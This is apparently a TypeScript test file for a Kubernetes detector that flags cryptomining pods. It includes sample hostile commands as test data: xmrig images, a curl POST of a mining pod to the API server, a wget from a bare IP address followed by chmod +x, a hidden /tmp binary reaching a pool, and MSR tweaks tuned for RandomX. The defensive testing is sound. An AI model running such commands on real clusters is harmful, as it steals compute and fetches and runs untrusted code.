import { expect, test } from 'vitest';
import { judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { XMR } from '../corpus/wallets.ts';

const indicators = await loadIndicators();

const judgeContainer = (container: object, pod: object = {}) =>
  judgeObject(
    {
      apiVersion: 'v1',
      kind: 'Pod',
      spec: { containers: [{ name: 'a', image: 'a', ...container }], ...pod },
    },
    { indicators },
  );
const judge = (...command: string[]) => judgeContainer({ command });
const judgeScript = (script: string) => judge('sh', '-c', script);

test('the image of a chart needs no tag', () => {
  const values = { image: { repository: 'xmrig/xmrig' } };
  expect(judgeObject({ kind: 'HelmRelease', spec: { values } }, { indicators }).verdict).toBe('deny');
});

test('a DaemonSet that is sent to the API server by curl is judged as one', () => {
  const pod = JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] },
  });
  const url = 'https://kubernetes.default/api/v1/namespaces/kube-system/pods';
  expect(judgeScript(`curl -sk -X POST ${url} -d '${pod}'`).verdict).toBe('deny');
  expect(judgeScript(`curl -sk -X POST ${url} -d '${pod.replaceAll('xmrig', 'nginx')}'`).verdict).toBe(
    'allow',
  );
});

test('a page that is opened with a wallet and threads mines, a ledger page does not', () => {
  const browser = (url: string) => judgeContainer({ args: ['--headless', url] }).verdict;
  expect(browser(`https://m.example.org/?pool=xmr&wallet=${XMR}&threads=8`)).toBe('deny');
  expect(browser(`https://explorer.example.org/search?value=${XMR}`)).toBe('allow');
});

test('the site of a pool and an invented wallet are a pool and a wallet', () => {
  const wallet = `pkt1q${'x7m2vd4kz9ltp3w8r5n6jh0yfcgsaeu2q9k7d2'}`;
  expect(judge('/usr/bin/netd', 'ann', '-p', wallet, 'http://pool.pkt.world').verdict).toBe('deny');
});

test('what hides in a scratch folder and is told a public address mines', () => {
  expect(judge('/tmp/.sysd', '-o', '172.104.55.9:443', '--tls', '-B').verdict).toBe('deny');
  expect(judge('/opt/agent', '-o', '172.104.55.9:443', '--tls', '-B').verdict).not.toBe('deny');
});

test('a wallet that logs in needs no pool that can be read', () => {
  expect(judge('/opt/a', '-o', '$(POOL)', '-u', XMR, '-p', 'w').verdict).toBe('deny');
});

test('a file from a bare address that is made executable is meant to run, one from a name of the cluster is not', () => {
  const fetched = (host: string) =>
    judgeScript(`wget -qO /d/agent http://${host}/agent && chmod +x /d/agent`).verdict;
  expect(fetched('45.155.250.64')).toBe('deny');
  expect(fetched('artifacts.build.svc.cluster.local')).toBe('allow');
});

test('a node that is tuned for latency is not refused, one that is set up for RandomX is', () => {
  const tuned = (load: string) =>
    judgeContainer(
      {
        command: ['sh', '-c', `sysctl -w vm.nr_hugepages=1280; modprobe ${load}; wrmsr -a 0x1a4 0xf`],
        securityContext: { privileged: true },
      },
      { hostPID: true },
    ).verdict;
  expect(tuned('msr')).toBe('warn');
  expect(tuned('msr allow_writes=on')).toBe('deny');
});

test('a node that measures its memory without prefetchers is not refused', () => {
  const script =
    'modprobe msr; echo 4000 > /proc/sys/vm/nr_hugepages; wrmsr -a 0x1a4 0xf; ./mlc; wrmsr -a 0x1a4 0x0';
  const container = { command: ['sh', '-c', script], securityContext: { privileged: true } };
  expect(judgeContainer(container, { hostPID: true }).verdict).toBe('warn');
});

test('a pool by its option and a wallet are those of a miner, on whatever port', () => {
  expect(judge('node', 'index.js', '--pool=eu.example.org:8444', '--wallet-address=NQ07').verdict).toBe(
    'deny',
  );
});
